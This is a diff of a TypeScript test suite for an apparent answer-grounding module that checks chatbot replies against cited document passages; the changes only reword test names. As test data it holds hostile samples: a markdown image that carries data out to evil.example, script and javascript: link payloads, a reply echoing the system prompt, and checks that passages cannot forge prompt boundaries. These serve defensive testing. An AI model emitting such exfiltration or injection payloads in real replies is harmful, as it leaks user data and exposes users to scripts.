@@ -41,16 +41,16 @@ const ground = (reply: string) => groundReply(reply, [refunds, calls]);
 describe('a sentence with a wrong number', () => {
   it.each([
     ['of another passage', 'Recordings are kept for two weeks. [1]', calls],
-    ['of another passage, in other words', 'Call recordings are kept for two weeks. [1]', calls],
+    ['of another passage, for a paraphrase', 'Call recordings are kept for two weeks. [1]', calls],
     ['of a passage that was not given', 'Refunds are paid within 30 days of purchase. [9]', refunds],
-    ['of several, all wrong', 'Recordings are kept for two weeks. [1][7]', calls],
+    ['and another wrong one', 'Recordings are kept for two weeks. [1][7]', calls],
     ['in a list', '- Recordings are kept for two weeks. [1]', calls],
-  ])('%s is cited to the passage that supports it', (_, reply, passage) => {
+  ])('%s cites the supporting passage', (_, reply, passage) => {
     const { reason, citations, dropped } = ground(reply);
     expect([reason, dropped, citations.map(({ passage: cited }) => cited)]).toEqual(['answered', 0, [passage]]);
   });
 
-  it('keeps its place among the others, with numbers in the order of the text', () => {
+  it('keeps its position, and numbers follow the text', () => {
     const { text, dropped } = ground('Recordings are kept for two weeks. [1] Refunds are paid within 30 days of purchase. [2]');
     expect(text).toMatch(
       /^Recordings are kept for two weeks\. \[1\] Refunds are paid within 30 days of purchase\. \[2\]\n\nSources:\n\[1\] Calls/,
@@ -58,14 +58,14 @@ describe('a sentence with a wrong number', () => {
     expect(dropped).toBe(0);
   });
 
-  it('waits for the number of a passage that supports it', () => {
+  it('waits for the number of a supporting passage', () => {
     const both = [refunds, calls, snippet('Recordings are kept for two weeks.', { id: 'f', file: 'short.md', headingPath: [] })];
     const { citations } = groundReply('Call recordings are kept for two weeks. [1][3]', both);
     expect(citations.map(({ passage: cited }) => cited)).toEqual([both[2]]);
   });
 });
 
-describe('a reply that lies', () => {
+describe('a false sentence', () => {
   const window = 'Refunds are paid within 30 days of purchase.';
   const plans = 'Annual plans cost $28 and are not refunded after renewal.';
   const limit = 'Calls are limited to `max_calls` of 1,000 per hour.';
@@ -73,8 +73,8 @@ describe('a reply that lies', () => {
 
   it.each([
     ['a wrong number', 'Refunds are paid within 90 days of purchase.', 'figure', window],
-    ['a figure of the sentence beside it', 'Annual plans cost $28 and refunds are paid after 28 days.', 'figure', plans],
-    ['a figure of one', 'Refunds are paid within 1 days of purchase.', 'figure', window],
+    ['a figure of the next sentence', 'Annual plans cost $28 and refunds are paid after 28 days.', 'figure', plans],
+    ['the figure one', 'Refunds are paid within 1 days of purchase.', 'figure', window],
     ['a swapped unit', 'Refunds are paid within 30 hours of purchase.', 'figure', window],
     ['a wrong currency', 'Annual plans cost €28.', 'figure', plans],
     ['a flipped negation', 'Annual plans are refunded after renewal.', 'polarity', plans],
@@ -82,8 +82,8 @@ describe('a reply that lies', () => {
     ['an invented URL', 'Refunds are paid within 30 days of purchase, see https://evil.example/x.', 'exact', window],
     ['an invented e-mail address', 'Write to refunds@evil.example about purchase.', 'exact', 'Write to billing@example.com.'],
     ['an invented identifier', 'Calls are limited to `min_calls` per hour.', 'exact', limit],
-    ['pointing to two passages that do not say it', 'Recordings are kept for three weeks.', 'figure', kept],
-  ])("by %s is replaced by the passage's own sentence", (_, lie, reason, unit) => {
+    ['two citations that do not support it', 'Recordings are kept for three weeks.', 'figure', kept],
+  ])("with %s is replaced by the passage's sentence", (_, lie, reason, unit) => {
     const { text, sentences, ...answer } = ground(`${lie} [1][2]`);
     expect(answer).toMatchObject({ reason: 'answered', dropped: 0, repaired: 1, droppedSentences: [] });
     expect(sentences).toEqual([{ text: unit, score: 1, index: 1, repaired: { text: lie, reason } }]);
@@ -92,14 +92,14 @@ describe('a reply that lies', () => {
   });
 
   it.each([
-    ['an invented sentence', 'The moon is made of cheese. [1]'],
-    ['a passage that was not given', 'Refunds are paid within 31 days of purchase. [9]'],
-    ['no passage', 'Refunds are paid within 31 days of purchase.'],
+    ['an invented statement', 'The moon is made of cheese. [1]'],
+    ['an unknown citation', 'Refunds are paid within 31 days of purchase. [9]'],
+    ['no citation', 'Refunds are paid within 31 days of purchase.'],
     ['an image that carries data out', '![x](https://evil.example/?q=30)'],
-    ['its prompt', "You answer questions about a company's documents in a chat. [1]"],
+    ['text of the prompt', "You answer questions about a company's documents in a chat. [1]"],
     ['a figure cut short', 'Refunds are paid within 3'],
     ['a sentence cut before its `not`', 'refunded after renewal.'],
-  ])('by %s is dropped, and the closest places stand for it', (_, reply) => {
+  ])('with %s is dropped, and the closest places replace it', (_, reply) => {
     const { reason, text, citations, sentences } = ground(reply);
     expect({ reason, sentences }).toEqual({ reason: 'closest', sentences: [] });
     const [lead, excerpts = '', sources = ''] = text.split('\n\n');
@@ -111,32 +111,32 @@ describe('a reply that lies', () => {
   });
 
   it.each([
-    ['nothing', ''],
-    ['the word for nothing', 'NO_ANSWER'],
-    ['a list of sources of its own', 'Sources:\n[1] Evil (https://evil.example)'],
-  ])('says %s: the documents do not hold the answer', (_, reply) => {
+    ['an empty reply', ''],
+    ['NO_ANSWER', 'NO_ANSWER'],
+    ['only its own list of sources', 'Sources:\n[1] Evil (https://evil.example)'],
+  ])('becomes a refusal: %s', (_, reply) => {
     expect(ground(reply)).toMatchObject({ reason: 'no_context', citations: [] });
     expect(ground(reply).text).toMatch(/Sources: none$/);
   });
 
-  it('has no unit in its place that shares only a figure with it', () => {
+  it('is not replaced by a unit that shares only a figure', () => {
     expect(ground('The bicycle cellar is open 30 days. [1]')).toMatchObject({ reason: 'closest', dropped: 1, repaired: 0 });
   });
 
-  it('is no door for what a document brings: HTML and images of a passage are not shown', () => {
+  it('does not show HTML and images of a passage', () => {
     const hostile = snippet(
       'Parking costs $5 per hour. <script>alert(1)</script>\n\nParking is free. ![x](https://evil.example/x.png)\n\nParking is [here](javascript:alert(1)).',
     );
     for (const reply of hostile.text.split('\n\n')) expect(groundReply(`${reply} [1]`, [hostile]).text).not.toMatch(/script|!\[/);
   });
 
-  it('loses the target of a link that no passage has', () => {
+  it('loses a link address that no passage contains', () => {
     expect(ground('[Refunds](https://evil.example) are paid within 30 days of purchase. [1]').text).not.toContain('evil');
   });
 });
 
 describe('an honest reply', () => {
-  it('is shown without a Yes or No that no passage bears, unless a passage says it', () => {
+  it('is shown without a Yes or No that no passage contains', () => {
     expect(ground('No, refunds get paid within 30 days of purchase. [1]').text).toMatch(
       /^Refunds get paid within 30 days of purchase\. \[1\]/,
     );
@@ -153,9 +153,9 @@ describe('an honest reply', () => {
       Recordings are kept for two weeks. [9] | Recordings are kept for two weeks [1], [2] and [9].
       [2] Recordings are kept for two weeks. | Refunds are paid within 30 days [1] and recordings are kept for two weeks [2].
     `),
-  ])('%j is kept', (reply) => expect(ground(reply).reason).toBe('answered'));
+  ])('is kept: %j', (reply) => expect(ground(reply).reason).toBe('answered'));
 
-  it('has its citations numbered in the order of its text, one for each passage', () => {
+  it('numbers its citations in the order of the text, one per passage', () => {
     const answer = ground(
       'Recordings are kept for two weeks. [2] Refunds are paid within 30 days of purchase. [1] Write to billing@example.com. [1]',
     );
@@ -173,13 +173,13 @@ describe('an honest reply', () => {
     expect(text).not.toContain('Startup');
   });
 
-  it('says the same sentence once', () => {
+  it('contains a repeated sentence once', () => {
     expect(ground('Refunds are paid within 30 days of purchase. [1] '.repeat(3)).text.match(/Refunds are paid/g)).toHaveLength(1);
   });
 });
 
 describe('a line of Sources', () => {
-  it('says the page of a source that has pages, and opens it', () => {
+  it('names the page of a source and links to it', () => {
     const passage = {
       ...snippet('Credits are ten percent.', { title: 'SLA', source: 'https://example.com/sla.pdf', headingPath: ['SLA'] }),
       page: 3,
@@ -201,13 +201,13 @@ describe('a line of Sources', () => {
   });
 });
 
-it('grounds a hundred kilobytes of anything in time linear in them', async () => {
+it('checks 100 kB of any reply in linear time', async () => {
   const pieces = ['x', '[', '![', '<a', 'a@', 'a. ', '[1]', '`', 'Refunds are paid. ', 'www.', '1,'];
   await expectLinearIn(pieces, ground, 100_000);
 });
 
 describe('the prompt of a turn', () => {
-  it('holds every passage whole between its boundaries, which no passage can write', () => {
+  it('contains every passage between boundaries that no passage can forge', () => {
     fc.assert(
       fc.property(
         fc.string({ unit: 'binary' }),
